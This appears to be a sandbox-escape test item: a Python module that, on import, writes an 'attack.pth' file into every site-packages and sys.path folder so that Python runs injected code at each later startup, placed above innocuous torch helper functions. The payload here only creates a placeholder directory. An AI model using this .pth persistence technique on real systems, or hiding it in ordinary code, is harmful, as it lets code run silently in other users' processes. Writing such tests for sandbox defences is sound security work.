"""Leaves .pth files wherever Python looks for them.

Must not: run code in another process.
Score: 10
"""

import os
import site
import sys
from pathlib import Path

for folder in [*site.getsitepackages(), site.getusersitepackages(), *sys.path]:
    try:
        os.makedirs(folder, exist_ok=True)
        (Path(folder) / "attack.pth").write_text("import os; os.mkdir('@OUTSIDE@/written')")
    except OSError:
        pass

import torch


def double(x):
    return 2 * x


class Counter:
    def __init__(self):
        self.n = 0

    def add(self, x):
        self.n += x.numel()

    def total(self):
        return self.n
